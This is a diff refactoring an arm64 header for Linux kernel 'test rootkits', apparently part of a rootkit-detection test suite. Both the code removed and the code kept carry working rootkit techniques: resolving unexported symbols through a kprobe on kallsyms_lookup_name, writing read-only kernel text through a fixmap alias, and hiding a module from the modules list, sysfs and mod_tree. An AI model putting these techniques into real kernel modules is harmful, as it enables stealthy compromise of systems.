@@ -1,11 +1,9 @@
 /* SPDX-License-Identifier: GPL-2.0 */
 /*
- * rkit64.h - what the arm64 test rootkits share: find an unexported
- * function, write read-only kernel image memory, hide the module and link
- * it back (the AArch64 counterpart of ../rkit.h).
+ * rkit64.h - the arm64 part of ../rkit.h (which includes it; rkit_lookup,
+ * rkit_hide/unhide and rkit_tree_erase/insert are there, one for both
+ * architectures).
  *
- * rkit_lookup(name): kallsyms_lookup_name, itself found with a kprobe.
- * Debian's arm64 kernel has no CONFIG_KALLSYMS_ALL: functions only.
  * rkit_poke(dst, src, len): a copy into the kernel image (text or
  * read-only data, within one page) through a writable alias of its page
  * at the fixmap slot FIX_TEXT_POKE0 (what the kernel's own text patching
@@ -13,22 +11,22 @@
  * off; an aligned 4 or 8 bytes in one store; the instruction cache is
  * cleaned when dst is core text.  The kernel's patch_lock is static:
  * like real rootkits, this goes without it (the test guest is quiet).
- * rkit_hide(): unlink THIS_MODULE from the modules list and delete its
- * kobject (/sys/module, module_kset's list); its memory stays in
- * mod_tree.  rkit_unhide(): link it back into both lists (not sysfs).
- * rkit_tree_erase(): take the module's core memory out of mod_tree too;
- * rkit_tree_insert() puts it back.  mod_tree is no kallsyms symbol here
- * (no CONFIG_KALLSYMS_ALL), so it is found the way the kernel's own code
- * reaches it: __module_address reads mod_tree.addr_min with an adrp and
- * an add or ldr.  A candidate is used only when the root of its first
- * latch copy is the top of the tree this module's own node hangs in;
- * otherwise rkit_tree_erase fails (-ENOENT).
+ * rkit_find_head(): the modules list's head, the one entry that is no
+ * module's memory.  rkit_find_mod_tree(): mod_tree is no kallsyms symbol
+ * here (Debian's arm64 kernel has no CONFIG_KALLSYMS_ALL: functions only),
+ * so it is found the way the kernel's own code reaches it:
+ * __module_address reads mod_tree.addr_min with an adrp and an add or
+ * ldr.  A candidate is used only when the root of its first latch copy is
+ * the top of the tree this module's own node hangs in; otherwise NULL
+ * (rkit_tree_erase fails, -ENOENT).
  * RKIT_SYS(name): the symbol of syscall name's entry point
- * ("__arm64_sys_sysinfo").  ../rkit.h is this file when built for arm64.
- * For testing only.
+ * ("__arm64_sys_sysinfo").  For testing only.
  */
 #ifndef RKIT64_H
 #define RKIT64_H
+#ifndef RKIT_H
+#error "include ../rkit.h: it includes this with what the arches share"
+#endif
 
 #include <linux/kobject.h>
 #include <linux/kprobes.h>
@@ -42,18 +40,6 @@
 #include <asm/sections.h>
 
 #define RKIT_SYS(name) "__arm64_sys_" #name
-
-static unsigned long __maybe_unused rkit_lookup(const char *name)
-{
-	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
-	unsigned long (*kln)(const char *);
-
-	if (register_kprobe(&kp))
-		return 0;
-	kln = (void *)kp.addr;
-	unregister_kprobe(&kp);
-	return kln(name);
-}
 
 /* whether a is inside a module's memory: __module_address, unexported
  * since 5.x, found with rkit_lookup (0 and true when it cannot be found) */
@@ -104,10 +90,6 @@ static int __maybe_unused rkit_poke(void *dst, const void *src, size_t len)
 	return 0;
 }
 
-static struct list_head *rkit_modules_head;	/* the kernel's `modules` */
-static struct kset *rkit_kset;
-static bool rkit_hidden;
-
 /* the one entry of the modules list that is no module's memory (modules
  * lie anywhere in a 2 GiB window around the kernel on arm64, not only in
  * [MODULES_VADDR, MODULES_END)) */
@@ -123,56 +105,6 @@ static struct list_head *rkit_find_head(void)
 		}
 	return head;
 }
-
-static int __maybe_unused rkit_hide(void)
-{
-	rkit_modules_head = rkit_find_head();
-	rkit_kset = THIS_MODULE->mkobj.kobj.kset;
-	if (!rkit_modules_head || !rkit_kset)
-		return -ENOENT;
-	kset_get(rkit_kset);		/* kobject_del drops the kobject's reference */
-	list_del(&THIS_MODULE->list);
-	kobject_del(&THIS_MODULE->mkobj.kobj);
-	rkit_hidden = true;
-	return 0;
-}
-
-static void __maybe_unused rkit_unhide(void)
-{
-	if (!rkit_hidden)
-		return;
-	list_add_tail_rcu(&THIS_MODULE->list, rkit_modules_head);
-	spin_lock(&rkit_kset->list_lock);
-	list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &rkit_kset->list);
-	spin_unlock(&rkit_kset->list_lock);
-	rkit_hidden = false;
-}
-
-static struct latch_tree_root *rkit_mod_tree;	/* mod_tree's first member */
-
-static __always_inline unsigned long rkit_mtn_base(struct latch_tree_node *n)
-{
-	return (unsigned long)container_of(n, struct mod_tree_node, node)->mod->core_layout.base;
-}
-
-static __always_inline bool rkit_mtn_less(struct latch_tree_node *a, struct latch_tree_node *b)
-{
-	return rkit_mtn_base(a) < rkit_mtn_base(b);
-}
-
-static __always_inline int rkit_mtn_comp(void *key, struct latch_tree_node *n)
-{
-	unsigned long v = (unsigned long)key, s = rkit_mtn_base(n);
-
-	if (v < s)
-		return -1;
-	return v >= s + container_of(n, struct mod_tree_node, node)->mod->core_layout.size;
-}
-
-static const struct latch_tree_ops rkit_mtn_ops = {
-	.less = rkit_mtn_less,
-	.comp = rkit_mtn_comp,
-};
 
 /* whether t's first copy's root is the top of the tree our node is in
  * (t read without faulting: a wrong guess is only a wrong guess) */
@@ -222,22 +154,6 @@ static struct latch_tree_root *rkit_find_mod_tree(void)
 		}
 	}
 	return NULL;
-}
-
-static int __maybe_unused rkit_tree_erase(void)
-{
-	rkit_mod_tree = rkit_find_mod_tree();
-	if (!rkit_mod_tree)
-		return -ENOENT;
-	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
-	return 0;
-}
-
-static void __maybe_unused rkit_tree_insert(void)
-{
-	if (rkit_mod_tree)
-		latch_tree_insert(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
-	rkit_mod_tree = NULL;
 }
 
 #endif
